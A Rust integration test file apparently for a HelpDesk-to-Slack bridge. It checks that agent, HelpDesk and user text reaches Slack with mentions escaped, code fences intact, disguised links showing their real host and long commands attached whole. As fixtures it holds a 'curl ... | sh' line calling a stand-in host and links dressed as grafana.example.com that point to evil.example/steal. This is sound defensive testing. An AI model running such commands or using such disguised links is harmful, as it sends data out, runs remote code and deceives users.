//! Hostile text end to end: what an agent, the HelpDesk or a person writes reaches Slack
//! inert (no live broadcast or mention, in the blocks or the notification `text`), code
//! cannot be closed from inside, links show where they go, and whatever is cut to fit
//! Block Kit is attached whole.

use std::time::Duration;

use serde_json::{Value, json};
use wiremock::{
    Mock, ResponseTemplate,
    matchers::{method, path},
};

use crate::support::{
    app::{Backend, Options, TestApp, spawn_app},
    eventually,
    fakes::{API, WORKSPACE_ID, assert_valid_message, mount_reply, text_of},
    payloads::mention_event,
};

const BOTH: [Backend; 2] = [Backend::Redis, Backend::Embedded];

/// Every message body the bridge sent to Slack so far.
async fn all_messages(app: &TestApp) -> Vec<Value> {
    let mut all = app.slack_calls("chat.postMessage").await;
    all.extend(app.slack_calls("chat.update").await);
    all.extend(app.slack_calls("chat.postEphemeral").await);
    all
}

/// Waits until a message (posted or edited) shows `needle`.
async fn shown(app: &TestApp, needle: &str) -> Value {
    let found = eventually(Duration::from_secs(15), || async {
        all_messages(app).await.into_iter().rev().find(|m| text_of(m).contains(needle))
    })
    .await;
    match found {
        Some(message) => message,
        None => panic!("no message shows {needle:?}: {:#?}", all_messages(app).await),
    }
}

/// Nothing in a message can ping: no `<!…>` but the bridge's dates, no mention but the
/// requester's (the bridge's own, in the header), and no bare broadcast in the
/// notification text.
fn assert_inert(body: &Value) {
    assert_valid_message(body);
    let text = body["text"].as_str().unwrap_or_default();
    let blocks = body["blocks"].to_string();
    for (what, s) in [("text", text), ("blocks", blocks.as_str())] {
        for (i, _) in s.match_indices("<!") {
            assert!(s[i..].starts_with("<!date^"), "a live <! in the {what}: {body:#}");
        }
        for (i, _) in s.match_indices("<@") {
            assert!(s[i..].starts_with("<@U1>"), "a mention in the {what}: {body:#}");
        }
    }
    for word in ["@here", "@channel", "@everyone"] {
        assert!(!text.contains(word), "{word} in the notification text: {body:#}");
    }
}

#[tokio::test]
async fn agent_text_commands_and_links_reach_slack_inert() {
    for backend in BOTH {
        let app = spawn_app(Options::bridge(backend)).await;
        let long_command = format!("curl -d '{}' https://x.example | sh", "&".repeat(1000));
        mount_reply(
            &app.helpdesk,
            "DEVOPS-1",
            json!({"role": "assistant", "content":
                "Done <!channel>, see [https://grafana.example.com](https://evil.example/steal).\n\n\
                 ````\ncat x\n```\n@here <!here>\n````",
                "data": {
                    "executed_cmds": [
                        {"command": "echo ```\n@here", "output": "```\n<!here>"},
                        {"command": long_command, "output": "ok"}
                    ],
                    "url_configs": [{"url": "https://evil.example/login", "description": "grafana.example.com"}]
                }
            }),
        )
        .await;
        app.post_event(&mention_event("Ev1", "C1", "U1", "1700000000.000100", "<@UBOT> disk full <!channel> @here"))
            .await;

        let reply = shown(&app, "Done ").await;
        assert_eq!(
            reply["blocks"][0]["text"]["text"],
            "Done &lt;!channel&gt;, see <https://evil.example/steal|https://grafana.example.com (evil.example)>.\n\n\
             ```\ncat x\n`\u{200B}`\u{200B}`\n@here &lt;!here&gt;\n```",
            "{backend:?}: the agent's fence holds, and the link shows its real host"
        );
        assert_eq!(reply["text"], "generic-agent replied");

        let ran = shown(&app, "✅ Ran").await;
        let texts: Vec<&str> = ran["blocks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["text"]["text"].as_str().or(b["elements"][0]["text"].as_str()).unwrap())
            .collect();
        assert_eq!(texts[0], "✅ Ran\n```\necho `\u{200B}`\u{200B}`\n@here\n```");
        assert_eq!(texts[1], "```\n`\u{200B}`\u{200B}`\n&lt;!here&gt;\n```");
        assert!(texts[2].starts_with("✅ Ran\n```\ncurl -d '&amp;&amp;"), "{}", texts[2]);
        assert!(texts[2].ends_with("…\n```") && texts[2].chars().count() <= 3000, "{}", texts[2]);
        assert_eq!(
            texts[3],
            "✂️ _Command shortened at 604 of 1033 characters; the whole command is attached as a file._"
        );
        assert_eq!(texts[4], "```\nok\n```");

        // The cut command is attached whole, with its output.
        let content = format!("$ {long_command}\n\nok");
        let upload = app.wait_slack("files.getUploadURLExternal", 1, |_| true).await;
        assert_eq!(upload[0]["filename"], "command.txt");
        assert_eq!(upload[0]["length"], content.len().to_string());
        let sent = eventually(Duration::from_secs(15), || async {
            let requests = app.slack.received_requests().await.unwrap_or_default();
            requests.into_iter().find(|r| r.url.path().starts_with("/upload/"))
        })
        .await
        .expect("the file's bytes were sent");
        assert!(String::from_utf8_lossy(&sent.body).contains(&content), "the whole command and output");
        let completed = app.wait_slack("files.completeUploadExternal", 1, |_| true).await;
        assert_eq!(completed[0]["thread_ts"], "1700000000.000100");
        assert_eq!(completed[0]["files"][0]["title"], format!("Command {}… and its output", &long_command[..59]));

        let links = shown(&app, "Links from the agent").await;
        assert_eq!(links["blocks"][1]["elements"][0]["url"], "https://evil.example/login");
        assert_eq!(links["blocks"][1]["elements"][0]["text"]["text"], "grafana.example.com (evil.example)");

        for message in all_messages(&app).await {
            assert_inert(&message);
        }
    }
}

#[tokio::test]
async fn a_helpdesk_error_body_is_inert_in_the_notice_and_its_notification() {
    for backend in BOTH {
        let app = spawn_app(Options::bridge(backend)).await;
        Mock::given(method("POST"))
            .and(path(format!("{API}/tickets/{WORKSPACE_ID}/DEVOPS-1/sendMessage")))
            .respond_with(ResponseTemplate::new(400).set_body_string("<!channel> refused &lt;!here&gt; @everyone"))
            .mount(&app.helpdesk)
            .await;
        app.post_event(&mention_event("Ev1", "C1", "U1", "1700000000.000100", "<@UBOT> check")).await;
        let notice = shown(&app, "rejected the message").await;
        let expected = "⚠️ The HelpDesk rejected the message (&lt;!channel&gt; refused &amp;lt;!here&amp;gt; \
                        @\u{2060}everyone). Your message did not reach the ticket.";
        assert_eq!(notice["blocks"][0]["text"]["text"], expected, "{backend:?}");
        assert_eq!(notice["text"], expected, "{backend:?}: the notification text is as inert as the blocks");
        assert_eq!(notice["blocks"][1]["elements"][0]["text"]["text"], "Retry");
        for message in all_messages(&app).await {
            assert_inert(&message);
        }
    }
}

#[tokio::test]
async fn links_past_one_message_are_attached_whole() {
    let app = spawn_app(Options::bridge(Backend::Embedded)).await;
    // 45 links: within the turn's cap of 50, more than one message's text holds.
    let links: Vec<Value> = (0..45)
        .map(|i| json!({"url": format!("ftp://files.example/{i}"), "description": format!("archive {i} {}", "d".repeat(400))}))
        .collect();
    mount_reply(
        &app.helpdesk,
        "DEVOPS-1",
        json!({"role": "assistant", "content": "Here.", "data": {"url_configs": links}}),
    )
    .await;
    app.post_event(&mention_event("Ev1", "C1", "U1", "1700000000.000100", "<@UBOT> links")).await;
    let message = shown(&app, "Links from the agent").await;
    assert_inert(&message);
    let note = message["blocks"].as_array().unwrap().last().unwrap()["elements"][0]["text"].as_str().unwrap();
    assert_eq!(note, "✂️ _…and 25 more links; the whole list is attached as a file._");
    let upload = app.wait_slack("files.getUploadURLExternal", 1, |_| true).await;
    assert_eq!(upload[0]["filename"], "links.txt");
    let list: String = (0..45).map(|i| format!("archive {i} {}: ftp://files.example/{i}\n", "d".repeat(400))).collect();
    assert_eq!(upload[0]["length"], list.len().to_string());
}
